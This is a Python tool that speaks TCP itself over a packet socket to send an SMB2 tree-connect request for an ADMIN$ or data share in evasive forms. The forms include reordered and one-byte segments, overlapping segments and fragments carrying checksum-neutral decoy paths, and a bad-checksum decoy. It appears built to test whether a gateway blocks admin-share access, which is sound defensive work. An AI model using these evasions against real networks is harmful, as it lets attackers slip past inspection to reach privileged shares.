#!/usr/bin/python3
"""SMB2 over a TCP of its own, to put one request on the wire in evasive ways.

The client speaks TCP itself on a packet socket (Scapy builds the frames):
handshake, sequence and acknowledgement numbers, ACKs for the server's data,
the server's bytes reassembled in order, and retransmission of its own
unacknowledged bytes, in order and whole, as a real stack would. Over one
connection per variant it sends SMB2 NEGOTIATE, SESSION_SETUP (NTLM, by
Impacket) and TREE_CONNECT; the TREE_CONNECT goes on the wire as the variant
says (split, reordered, 1-byte segments, overlapping segments with other
bytes, a bad-checksum decoy, IP fragments). Once connected, the share is
identified by probing files (the data file, then the admin marker), and on
the data share the data file is read and hashed.

The kernel of the client's namespace must not answer the server with RSTs
(it knows nothing of these connections): drop them with nftables first.

One line per variant on stdout, key=value:

  variant=split8-reverse target=admin verdict=REFUSED share=- sha256=- \
      reason=reset retx=0 attempt=1 sport=40123 ms=12

  verdict   SUCCESS (the tree connect answered STATUS_SUCCESS), REFUSED
            (a reset, no answer in time, or an error status), or ERROR
            (the session broke before the tree connect: a harness problem)
  share     data or admin: the share the server actually connected, by probe
  sha256    of the data file read over SMB (data share only)
  retx      how often the client retransmitted its unacknowledged bytes
            (in order and whole, after --rto, doubling) up to the tree
            connect's answer; 0 means the server took the variant's bytes
  attempt   which run of the variant this is (--attempts)

usage:
  smb_evasion.py run --iface eth0 --server IP --user U --password P \\
      --data-file NAME --admin-file NAME [--targets admin,data] \\
      [--variants all|v1,v2,...] [--seed N]
  smb_evasion.py list                  the variants, one a line, and kind
  smb_evasion.py split CAPTURE RESULTS OUTDIR
      writes OUTDIR/TARGET-VARIANT-PORT.pcap per result line: the frames of
      that variant's connection (by client port; IP fragments by their
      datagram's id)
"""

import argparse
import hashlib
import os
import random
import socket
import struct
import sys
import time

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Raw

from impacket import ntlm
from impacket import smb3structs as smb2
from impacket.spnego import SPNEGO_NegTokenInit, SPNEGO_NegTokenResp, TypesMech

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4

STATUS_SUCCESS = 0
STATUS_PENDING = 0x00000103
STATUS_MORE_PROCESSING_REQUIRED = 0xC0000016
STATUS_OBJECT_NAME_NOT_FOUND = 0xC0000034

MSS = 1400
WINDOW = 65535


class Refused(Exception):
    """The server (or something on the way) did not take the request."""


class Broken(Exception):
    """The connection failed before the step under test."""


def inet_sum(data):
    """The ones'-complement sum of DATA's 16-bit big-endian words."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


class Tcp:
    """One TCP connection from a packet socket: enough of RFC 793 for SMB."""

    def __init__(self, iface, server, sport, rng, pace=0.0):
        self.pace = pace
        self.server = server
        self.sport = sport
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                  socket.htons(ETH_P_ALL))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.sock.bind((iface, 0))
        self.mac = self.sock.getsockname()[4].hex(":")
        self.client = iface_address(iface)
        self.server_mac = None
        self.ip_id = rng.randrange(1, 0xFFFF)
        self.iss = rng.randrange(0, 1 << 32)
        self.snd_una = self.snd_nxt = (self.iss + 1) & 0xFFFFFFFF
        self.sent = b""             # bytes from snd_una on, for retransmission
        self.rcv_nxt = 0
        self.held = {}              # out-of-order server bytes by sequence
        self.stream = bytearray()   # server bytes in order, not yet consumed
        self.reset = False
        self.fin = False
        self.retransmissions = 0

    def close(self):
        self.sock.close()

    # Frames out

    def next_id(self):
        self.ip_id = (self.ip_id + 1) & 0xFFFF or 1
        return self.ip_id

    def ether(self):
        return Ether(src=self.mac, dst=self.server_mac, type=0x0800)

    def tcp_datagram(self, seq, payload, flags="PA", bad_checksum=False):
        """The bytes of an IP datagram carrying one TCP segment."""
        pkt = IP(src=self.client, dst=self.server, id=self.next_id(), ttl=64) / \
            TCP(sport=self.sport, dport=445, seq=seq & 0xFFFFFFFF,
                ack=self.rcv_nxt, flags=flags, window=WINDOW)
        if payload:
            pkt = pkt / Raw(payload)
        raw = bytearray(bytes(pkt))
        if bad_checksum:
            raw[36] ^= 0x5A     # the TCP checksum's first byte
        return bytes(raw)

    def send_frame(self, frame):
        self.sock.send(frame)
        if self.pace:
            time.sleep(self.pace)

    def send_datagram(self, datagram):
        self.send_frame(bytes(self.ether()) + datagram)

    def send_fragments(self, datagram, pieces):
        """Sends DATAGRAM's payload as IP fragments: PIECES is a list of
        (offset, bytes) in the order to send; offsets in bytes, multiples
        of 8; the piece that ends the datagram has MF clear."""
        header = IP(datagram[:20])
        total = len(datagram) - 20
        for offset, chunk in pieces:
            last = offset + len(chunk) >= total
            frag = IP(src=header.src, dst=header.dst, id=header.id, ttl=64,
                      proto=6, flags=0 if last else "MF", frag=offset // 8) / \
                Raw(chunk)
            self.send_frame(bytes(self.ether()) + bytes(frag))

    def send_segment(self, seq, payload, flags="PA", bad_checksum=False):
        self.send_datagram(self.tcp_datagram(seq, payload, flags, bad_checksum))

    def ack_now(self):
        self.send_segment(self.snd_nxt, b"", flags="A")

    def abort(self):
        if self.server_mac is not None:
            self.send_segment(self.snd_nxt, b"", flags="RA")

    # Frames in

    def resolve(self, timeout=3.0):
        """The server's MAC address, by ARP."""
        request = Ether(src=self.mac, dst="ff:ff:ff:ff:ff:ff") / \
            ARP(op=1, hwsrc=self.mac, psrc=self.client, pdst=self.server)
        deadline = time.monotonic() + timeout
        next_try = 0.0
        while time.monotonic() < deadline:
            if time.monotonic() >= next_try:
                self.sock.send(bytes(request))
                next_try = time.monotonic() + 0.5
            frame = self.recv_frame(min(deadline, next_try))
            if frame is None or len(frame) < 42:
                continue
            if struct.unpack("!H", frame[12:14])[0] != 0x0806:
                continue
            if struct.unpack("!H", frame[20:22])[0] == 2 and \
                    socket.inet_ntoa(frame[28:32]) == self.server:
                self.server_mac = frame[22:28].hex(":")
                return
        raise Broken("no ARP reply from %s" % self.server)

    def recv_frame(self, deadline):
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                frame, addr = self.sock.recvfrom(65535)
            except socket.timeout:
                return None
            if addr[2] != PACKET_OUTGOING:
                return frame

    def parse(self, frame):
        """(seq, ack, flags, payload) of a segment of this connection
        from the server, or None."""
        if len(frame) < 34 or frame[12:14] != b"\x08\x00":
            return None
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        total = struct.unpack("!H", ip[2:4])[0]
        if ip[9] != 6 or ihl < 20 or total > len(ip) or total < ihl + 20:
            return None
        if struct.unpack("!H", ip[6:8])[0] & 0x3FFF:
            return None         # the server's datagrams are never fragments
        if socket.inet_ntoa(ip[12:16]) != self.server or \
                socket.inet_ntoa(ip[16:20]) != self.client:
            return None
        tcp = ip[ihl:total]
        sport, dport, seq, ack, off_flags = struct.unpack("!HHIIH", tcp[:14])
        if sport != 445 or dport != self.sport:
            return None
        doff = (off_flags >> 12) * 4
        if doff < 20 or doff > len(tcp):
            return None
        return seq, ack, off_flags & 0x3F, bytes(tcp[doff:])

    def pump(self, deadline):
        """Takes in frames until DEADLINE or one arrives; False on timeout."""
        frame = self.recv_frame(deadline)
        if frame is None:
            return False
        seg = self.parse(frame)
        if seg is None:
            return True
        seq, ack, flags, payload = seg
        if flags & 0x04:        # RST
            self.reset = True
            return True
        if flags & 0x10:        # ACK
            acked = (ack - self.snd_una) & 0xFFFFFFFF
            if 0 < acked <= len(self.sent):
                self.sent = self.sent[acked:]
                self.snd_una = ack
        if payload or flags & 0x01:
            self.take(seq, payload, flags & 0x01)
            self.ack_now()
        return True

    def take(self, seq, payload, fin):
        offset = (seq - self.rcv_nxt) & 0xFFFFFFFF
        if offset >= 1 << 31:   # starts before rcv_nxt: trim what we have
            skip = (self.rcv_nxt - seq) & 0xFFFFFFFF
            if skip >= len(payload) + fin:
                return
            payload = payload[skip:]
            offset = 0
        if offset > 0:
            self.held[seq] = (payload, fin)
            return
        self.deliver(payload, fin)
        while self.held:
            for s in list(self.held):
                gap = (s - self.rcv_nxt) & 0xFFFFFFFF
                if gap >= 1 << 31 or gap == 0:
                    data, f = self.held.pop(s)
                    skip = 0 if gap == 0 else (self.rcv_nxt - s) & 0xFFFFFFFF
                    if skip < len(data) + f:
                        self.deliver(data[skip:], f)
                    break
            else:
                return

    def deliver(self, payload, fin):
        self.stream += payload
        self.rcv_nxt = (self.rcv_nxt + len(payload)) & 0xFFFFFFFF
        if fin:
            self.fin = True
            self.rcv_nxt = (self.rcv_nxt + 1) & 0xFFFFFFFF

    # Connection

    def connect(self, timeout=3.0):
        self.resolve()
        syn = IP(src=self.client, dst=self.server, id=self.next_id()) / \
            TCP(sport=self.sport, dport=445, seq=self.iss, flags="S",
                window=WINDOW, options=[("MSS", 1460)])
        deadline = time.monotonic() + timeout
        next_try = 0.0
        while time.monotonic() < deadline:
            if time.monotonic() >= next_try:
                self.send_datagram(bytes(syn))
                next_try = time.monotonic() + 1.0
            frame = self.recv_frame(min(deadline, next_try))
            if frame is None:
                continue
            seg = self.parse(frame)
            if seg is None:
                continue
            seq, ack, flags, _ = seg
            if flags & 0x04:
                raise Broken("connection refused (RST to SYN)")
            if flags & 0x12 == 0x12 and ack == self.snd_nxt:
                self.rcv_nxt = (seq + 1) & 0xFFFFFFFF
                self.ack_now()
                return
        raise Broken("no SYN-ACK from %s:445" % self.server)

    def queue(self, data):
        """Takes DATA as the next bytes of the stream; returns its first
        sequence number. The caller puts them on the wire."""
        seq = self.snd_nxt
        self.sent += data
        self.snd_nxt = (self.snd_nxt + len(data)) & 0xFFFFFFFF
        return seq

    def retransmit(self):
        """Everything unacknowledged, in order, in MSS-sized segments."""
        self.retransmissions += 1
        for i in range(0, len(self.sent), MSS):
            self.send_segment(self.snd_una + i, self.sent[i:i + MSS])


def iface_address(iface):
    import fcntl
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        req = struct.pack("256s", iface.encode()[:15])
        return socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, req)[20:24])
    finally:
        s.close()


# How a message goes on the wire. Each variant gets the connection, the
# message's first sequence number, the real bytes, other bytes of the same
# length (ALT: they differ in the path only), and the path's span in the
# message. "ambiguous" variants carry two different contents for the same
# sequence range; which one is judged is the gateway's choice, so what
# matters is that the admin share is never reached.

def pieces(length, count):
    """COUNT (start, end) ranges covering [0, LENGTH), near-equal."""
    cuts = [length * i // count for i in range(count + 1)]
    return [(cuts[i], cuts[i + 1]) for i in range(count) if cuts[i] < cuts[i + 1]]


def send_ranges(tcp, seq, data, ranges):
    for start, end in ranges:
        tcp.send_segment(seq + start, data[start:end])


def v_inorder(tcp, seq, real, alt, path, rng):
    tcp.send_segment(seq, real)


def v_split2_reverse(tcp, seq, real, alt, path, rng):
    # The cut falls inside the share name.
    cut = path[1] - 6
    send_ranges(tcp, seq, real, [(cut, len(real)), (0, cut)])


def v_split8_reverse(tcp, seq, real, alt, path, rng):
    send_ranges(tcp, seq, real, reversed(pieces(len(real), 8)))


def v_split8_shuffle(tcp, seq, real, alt, path, rng):
    ranges = pieces(len(real), 8)
    order = list(ranges)
    while order[0] == ranges[0] or order == ranges:
        rng.shuffle(order)
    send_ranges(tcp, seq, real, order)


def v_bytes1(tcp, seq, real, alt, path, rng):
    send_ranges(tcp, seq, real, [(i, i + 1) for i in range(len(real))])


def v_bytes1_reverse(tcp, seq, real, alt, path, rng):
    send_ranges(tcp, seq, real, [(i, i + 1) for i in reversed(range(len(real)))])


def v_overlap_real_first(tcp, seq, real, alt, path, rng):
    # The tail with the path ahead of a hole, then the same range with the
    # other path: a receiver that keeps the first copy (Linux) takes the
    # real bytes; then the head fills the hole.
    k = path[0]
    tcp.send_segment(seq + k, real[k:])
    tcp.send_segment(seq + k, alt[k:])
    tcp.send_segment(seq, real[:k])


def v_overlap_alt_first(tcp, seq, real, alt, path, rng):
    # The other path first, ahead of a hole; then the real bytes from one
    # byte earlier, covering it: Linux replaces the held segment with the
    # covering one. The head fills the hole.
    k = path[0]
    tcp.send_segment(seq + k, alt[k:])
    tcp.send_segment(seq + k - 1, real[k - 1:])
    tcp.send_segment(seq, real[:k - 1])


def v_decoy_badsum(tcp, seq, real, alt, path, rng):
    # In order, the other path with a broken TCP checksum (the server drops
    # it), then the real bytes as if retransmitted.
    tcp.send_segment(seq, alt, bad_checksum=True)
    tcp.send_segment(seq, real)


def frag_pieces(total, size):
    return [(o, min(o + size, total)) for o in range(0, total, size)]


def v_frag(size, order):
    def send(tcp, seq, real, alt, path, rng):
        datagram = tcp.tcp_datagram(seq, real)
        body = datagram[20:]
        ranges = frag_pieces(len(body), size)
        if order == "reverse":
            ranges.reverse()
        tcp.send_fragments(datagram, [(s, body[s:e]) for s, e in ranges])
    return send


def v_frag_overlap(tcp, seq, real, alt, path, rng):
    # 24-byte fragments in order; each fragment that holds path bytes is
    # followed by a copy at the same offset with the other path's bytes.
    # The other path is chosen to leave the TCP checksum unchanged, so
    # either copy makes a valid datagram; Linux keeps the first.
    datagram = tcp.tcp_datagram(seq, real)
    body = datagram[20:]
    other = tcp.tcp_datagram(seq, alt)[20:]
    assert len(other) == len(body) and other[:20] == body[:20], \
        "the other path must not change the TCP header (checksum)"
    hdr = len(body) - len(real)
    lo, hi = hdr + path[0], hdr + path[1]
    out = []
    for s, e in frag_pieces(len(body), 24):
        out.append((s, body[s:e]))
        if s < hi and e > lo:
            out.append((s, other[s:e]))
    tcp.send_fragments(datagram, out)


VARIANTS = [
    # name, function, kind (plain: what today's gateway handles;
    # segments / fragments: the evasions), ambiguous
    ("inorder", v_inorder, "plain", False),
    ("split2-reverse", v_split2_reverse, "segments", False),
    ("split8-reverse", v_split8_reverse, "segments", False),
    ("split8-shuffle", v_split8_shuffle, "segments", False),
    ("bytes1", v_bytes1, "segments", False),
    ("bytes1-reverse", v_bytes1_reverse, "segments", False),
    ("overlap-real-first", v_overlap_real_first, "segments", False),
    ("overlap-alt-first", v_overlap_alt_first, "segments", True),
    ("decoy-badsum", v_decoy_badsum, "segments", False),
    ("frag-inorder", v_frag(24, "inorder"), "fragments", False),
    ("frag-reverse", v_frag(24, "reverse"), "fragments", False),
    ("frag-tiny", v_frag(8, "inorder"), "fragments", False),
    ("frag-overlap", v_frag_overlap, "fragments", True),
]


# SMB2

def nbss(data):
    """The NetBIOS session header of a message of DATA."""
    if len(data) >= 1 << 24:
        raise Broken("message too long for NBSS")
    return struct.pack("!I", len(data))


class Smb2:
    def __init__(self, tcp, timeout, rto):
        self.tcp = tcp
        self.timeout = timeout
        self.rto = rto
        self.message_id = 0
        self.session_id = 0
        self.tree_id = 0

    def build(self, command, body):
        hdr = smb2.SMB2Packet()
        hdr["Command"] = command
        hdr["CreditCharge"] = 1
        hdr["CreditRequestResponse"] = 64
        hdr["MessageID"] = self.message_id
        hdr["SessionID"] = self.session_id
        hdr["TreeID"] = self.tree_id
        hdr["Data"] = body
        self.message_id += 1
        data = hdr.getData()
        return nbss(data) + data

    def send(self, message, variant=None, alt=None, path=None, rng=None):
        seq = self.tcp.queue(message)
        if variant is None:
            for i in range(0, len(message), MSS):
                self.tcp.send_segment(seq + i, message[i:i + MSS])
        else:
            variant(self.tcp, seq, message, alt, path, rng)

    def receive(self, message_id, timeout=None):
        """(status, header bytes, body bytes) of the answer to MESSAGE_ID."""
        deadline = time.monotonic() + (timeout or self.timeout)
        rto = self.rto
        next_rto = time.monotonic() + rto
        while True:
            answer = self.take_message()
            if answer is not None:
                status, mid, raw = answer
                if mid == message_id and status != STATUS_PENDING:
                    return status, raw[:64], raw[64:]
                continue
            if self.tcp.reset:
                raise Refused("reset")
            if self.tcp.fin:
                raise Refused("closed")
            now = time.monotonic()
            if now >= deadline:
                raise Refused("timeout")
            if self.tcp.sent and now >= next_rto:
                self.tcp.retransmit()
                rto *= 2
                next_rto = now + rto
            self.tcp.pump(min(deadline, next_rto))

    def take_message(self):
        stream = self.tcp.stream
        if len(stream) < 4:
            return None
        length = struct.unpack("!I", stream[:4])[0] & 0xFFFFFF
        if len(stream) < 4 + length:
            return None
        raw = bytes(stream[4:4 + length])
        del stream[:4 + length]
        if length < 64 or raw[:4] != b"\xfeSMB":
            raise Broken("not an SMB2 message from the server")
        status = struct.unpack("<I", raw[8:12])[0]
        mid = struct.unpack("<Q", raw[24:32])[0]
        return status, mid, raw

    def call(self, command, body, timeout=None, **shape):
        mid = self.message_id
        self.send(self.build(command, body), **shape)
        return self.receive(mid, timeout)

    def negotiate(self):
        req = smb2.SMB2Negotiate()
        req["SecurityMode"] = smb2.SMB2_NEGOTIATE_SIGNING_ENABLED
        req["Capabilities"] = 0
        req["ClientGuid"] = os.urandom(16)
        req["Dialects"] = [smb2.SMB2_DIALECT_002, smb2.SMB2_DIALECT_21,
                           smb2.SMB2_DIALECT_30, smb2.SMB2_DIALECT_302]
        req["DialectCount"] = len(req["Dialects"])
        status, _, _ = self.call(smb2.SMB2_NEGOTIATE, req)
        if status != STATUS_SUCCESS:
            raise Broken("negotiate: status 0x%08x" % status)

    def session_setup(self, user, password, domain=""):
        type1 = ntlm.getNTLMSSPType1("", domain, False)
        blob = SPNEGO_NegTokenInit()
        blob["MechTypes"] = [TypesMech["NTLMSSP - Microsoft NTLM Security Support Provider"]]
        blob["MechToken"] = type1.getData()
        req = smb2.SMB2SessionSetup()
        req["SecurityMode"] = smb2.SMB2_NEGOTIATE_SIGNING_ENABLED
        req["SecurityBufferLength"] = len(blob)
        req["Buffer"] = blob.getData()
        status, hdr, body = self.call(smb2.SMB2_SESSION_SETUP, req)
        if status != STATUS_MORE_PROCESSING_REQUIRED:
            raise Broken("session setup 1: status 0x%08x" % status)
        self.session_id = struct.unpack("<Q", hdr[40:48])[0]
        resp = smb2.SMB2SessionSetup_Response(body)
        type2 = SPNEGO_NegTokenResp(resp["Buffer"])["ResponseToken"]
        type3, _ = ntlm.getNTLMSSPType3(type1, type2, user, password, domain)
        token = SPNEGO_NegTokenResp()
        token["ResponseToken"] = type3.getData()
        req = smb2.SMB2SessionSetup()
        req["SecurityMode"] = smb2.SMB2_NEGOTIATE_SIGNING_ENABLED
        req["SecurityBufferLength"] = len(token)
        req["Buffer"] = token.getData()
        status, _, _ = self.call(smb2.SMB2_SESSION_SETUP, req)
        if status != STATUS_SUCCESS:
            raise Broken("session setup 2: status 0x%08x (user %s)" % (status, user))

    def tree_connect_message(self, path):
        req = smb2.SMB2TreeConnect()
        req["Buffer"] = path.encode("utf-16le")
        req["PathLength"] = len(req["Buffer"])
        return self.build(smb2.SMB2_TREE_CONNECT, req)

    def create(self, name):
        req = smb2.SMB2Create()
        req["ImpersonationLevel"] = smb2.SMB2_IL_IMPERSONATION
        req["DesiredAccess"] = smb2.FILE_READ_DATA | smb2.FILE_READ_ATTRIBUTES
        req["FileAttributes"] = 0
        req["ShareAccess"] = smb2.FILE_SHARE_READ
        req["CreateDisposition"] = smb2.FILE_OPEN
        req["CreateOptions"] = smb2.FILE_NON_DIRECTORY_FILE
        req["Buffer"] = name.encode("utf-16le")
        req["NameLength"] = len(req["Buffer"])
        status, _, body = self.call(smb2.SMB2_CREATE, req)
        if status != STATUS_SUCCESS:
            return status, None, 0
        resp = smb2.SMB2Create_Response(body)
        return status, resp["FileID"].getData(), resp["EndOfFile"]

    def read_all(self, file_id, size):
        digest = hashlib.sha256()
        offset = 0
        while offset < size:
            req = smb2.SMB2Read()
            req["Length"] = min(32768, size - offset)
            req["Offset"] = offset
            req["FileID"] = file_id
            status, _, body = self.call(smb2.SMB2_READ, req)
            if status != STATUS_SUCCESS:
                raise Broken("read at %d: status 0x%08x" % (offset, status))
            resp = smb2.SMB2Read_Response(body)
            data = resp["Buffer"]
            if not data:
                raise Broken("read at %d: no data" % offset)
            digest.update(data)
            offset += len(data)
        return digest.hexdigest()

    def close_file(self, file_id):
        req = smb2.SMB2Close()
        req["FileID"] = file_id
        self.call(smb2.SMB2_CLOSE, req)


def paths(server, target, rng):
    """(real path, other path): equal lengths; the other path names the
    data share (for target admin) or the data share in capitals (for
    target data), and its server part is chosen so that both give the same
    TCP checksum."""
    real = "\\\\%s\\%s" % (server, "ADMIN$" if target == "admin" else "data")
    share = "data" if target == "admin" else "DATA"
    filler = len(real) - 3 - len(share)     # \\ + filler + \ + share
    base = (server + "x" * filler)[:filler - 2]
    real_sum = inet_sum(real.encode("utf-16le"))
    for _ in range(10000):
        y = rng.randrange(0x41, 0x5B)
        rest = inet_sum(("\\\\" + base + chr(y) + "\\" + share).encode("utf-16le"))
        # The word X must add up to real_sum: X + rest = real_sum (mod 0xffff).
        word = (real_sum - rest) % 0xFFFF
        code = ((word & 0xFF) << 8) | (word >> 8)   # UTF-16LE: bytes swapped
        if 0x21 <= code < 0x7F and chr(code) not in "\\/:*?\"<>|" or \
                0xA0 <= code < 0xD800 or 0xE000 <= code <= 0xFFFD:
            alt = "\\\\" + base + chr(code) + chr(y) + "\\" + share
            if len(alt) == len(real) and \
                    inet_sum(alt.encode("utf-16le")) == real_sum:
                return real, alt
    raise Broken("no checksum-neutral other path")


def run_variant(args, name, func, target, rng, sport):
    started = time.monotonic()
    result = {"variant": name, "target": target, "verdict": "ERROR",
              "share": "-", "sha256": "-", "reason": "-", "retx": "-",
              "sport": sport}
    tcp = Tcp(args.iface, args.server, sport, rng, args.pace_us / 1e6)
    try:
        tcp.connect()
        smb = Smb2(tcp, args.timeout, args.rto)
        smb.negotiate()
        smb.session_setup(args.user, args.password)
        real, alt = paths(args.server, target, rng)
        message = smb.tree_connect_message(real)
        smb.message_id -= 1
        other = smb.tree_connect_message(alt)
        assert len(other) == len(message)
        start = len(message) - len(real) * 2
        mid = smb.message_id - 1
        try:
            smb.send(message, variant=func, alt=other,
                     path=(start, len(message)), rng=rng)
            status, hdr, _ = smb.receive(mid, args.tree_timeout)
        except Refused as e:
            result["verdict"] = "REFUSED"
            result["reason"] = str(e)
            return result
        finally:
            result["retx"] = tcp.retransmissions
        if status != STATUS_SUCCESS:
            result["verdict"] = "REFUSED"
            result["reason"] = "status_0x%08x" % status
            return result
        result["verdict"] = "SUCCESS"
        result["reason"] = "tree_connect_ok"
        smb.tree_id = struct.unpack("<I", hdr[36:40])[0]
        try:
            status, file_id, size = smb.create(args.data_file)
            if status == STATUS_SUCCESS:
                result["share"] = "data"
                result["sha256"] = smb.read_all(file_id, size)
                smb.close_file(file_id)
            elif status == STATUS_OBJECT_NAME_NOT_FOUND:
                status, file_id, _ = smb.create(args.admin_file)
                if status == STATUS_SUCCESS:
                    result["share"] = "admin"
                    smb.close_file(file_id)
                else:
                    result["reason"] = "probe_status_0x%08x" % status
            else:
                result["reason"] = "probe_status_0x%08x" % status
        except (Refused, Broken) as e:
            result["reason"] = "after_tree_connect_" + str(e).replace(" ", "_")
        return result
    except (Refused, Broken) as e:
        result["reason"] = str(e).replace(" ", "_")
        return result
    finally:
        tcp.abort()
        tcp.close()
        result["ms"] = int((time.monotonic() - started) * 1000)


def cmd_run(args):
    rng = random.Random(args.seed)
    chosen = VARIANTS if args.variants == "all" else \
        [v for v in VARIANTS if v[0] in args.variants.split(",")]
    unknown = set(args.variants.split(",")) - {v[0] for v in VARIANTS} - {"all"}
    if unknown:
        sys.exit("smb_evasion.py: unknown variant(s): %s" % ",".join(sorted(unknown)))
    sport = args.first_port - 1 if args.first_port else 20000 + rng.randrange(0, 20000)
    for target in args.targets.split(","):
        if target not in ("admin", "data"):
            sys.exit("smb_evasion.py: target must be admin or data")
        for name, func, _, _ in chosen:
            for attempt in range(1, args.attempts + 1):
                sport += 1
                result = run_variant(args, name, func, target, rng, sport)
                result["attempt"] = attempt
                if result["retx"] in (0, "-"):
                    break
            print(" ".join("%s=%s" % (k, result[k]) for k in
                           ("variant", "target", "verdict", "share", "sha256",
                            "reason", "retx", "attempt", "sport", "ms")), flush=True)


def cmd_list(args):
    for name, _, kind, ambiguous in VARIANTS:
        print(name, kind, "ambiguous" if ambiguous else "strict")


def cmd_split(args):
    from scapy.utils import PcapReader, PcapWriter
    wanted = {}
    for line in open(args.results):
        fields = dict(f.split("=", 1) for f in line.split() if "=" in f)
        if "sport" in fields and "variant" in fields:
            wanted[int(fields["sport"])] = "%s-%s-%s" % (
                fields["target"], fields["variant"], fields["sport"])
    frames = {name: [] for name in wanted.values()}
    datagram_owner = {}     # (src, dst, ip id) -> name, from first fragments
    pending = []            # non-first fragments seen before their first
    with PcapReader(args.capture) as reader:
        linktype = reader.linktype
        for pkt in reader:
            if IP not in pkt:
                continue
            ip = pkt[IP]
            key = (ip.src, ip.dst, ip.id)
            name = None
            if ip.frag == 0 and ip.proto == 6:
                # Ports from the bytes: a tiny first fragment holds no
                # whole TCP header.
                l4 = bytes(ip.payload)
                if len(l4) < 4:
                    continue
                sport, dport = struct.unpack("!HH", l4[:4])
                name = wanted.get(sport if dport == 445 else dport)
                if name is not None and ip.flags.MF:
                    datagram_owner[key] = name
            elif ip.frag > 0 or ip.flags.MF:
                name = datagram_owner.get(key)
                if name is None:
                    pending.append((key, pkt))
                    continue
            if name is not None:
                frames[name].append(pkt)
    for key, pkt in pending:
        name = datagram_owner.get(key)
        if name is not None:
            frames[name].append(pkt)
    os.makedirs(args.outdir, exist_ok=True)
    for name, pkts in frames.items():
        pkts.sort(key=lambda p: float(p.time))
        writer = PcapWriter(os.path.join(args.outdir, name + ".pcap"),
                            linktype=linktype, sync=True)
        for p in pkts:
            writer.write(p)
        writer.close()
        print("%s %d" % (name, len(pkts)))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = parser.add_subparsers(dest="command", required=True)
    run = sub.add_parser("run")
    run.add_argument("--iface", required=True)
    run.add_argument("--server", required=True)
    run.add_argument("--user", required=True)
    run.add_argument("--password", required=True)
    run.add_argument("--data-file", required=True)
    run.add_argument("--admin-file", required=True)
    run.add_argument("--targets", default="admin,data")
    run.add_argument("--variants", default="all")
    run.add_argument("--seed", type=int, default=1)
    run.add_argument("--timeout", type=float, default=5.0,
                     help="seconds for each answer before the tree connect")
    run.add_argument("--tree-timeout", type=float, default=3.0,
                     help="seconds for the tree connect's answer")
    run.add_argument("--first-port", type=int, default=0,
                     help="the first variant's client port (default: random)")
    run.add_argument("--attempts", type=int, default=1,
                     help="runs of a variant while it needed retransmissions "
                     "(a lossy port), the last one reported")
    run.add_argument("--rto", type=float, default=0.3,
                     help="seconds before the first retransmission")
    run.add_argument("--pace-us", type=float, default=0,
                     help="microseconds between the client's frames (a "
                     "capturing port may drop bursts of tiny frames)")
    sub.add_parser("list")
    split = sub.add_parser("split")
    split.add_argument("capture")
    split.add_argument("results")
    split.add_argument("outdir")
    args = parser.parse_args()
    {"run": cmd_run, "list": cmd_list, "split": cmd_split}[args.command](args)


if __name__ == "__main__":
    main()
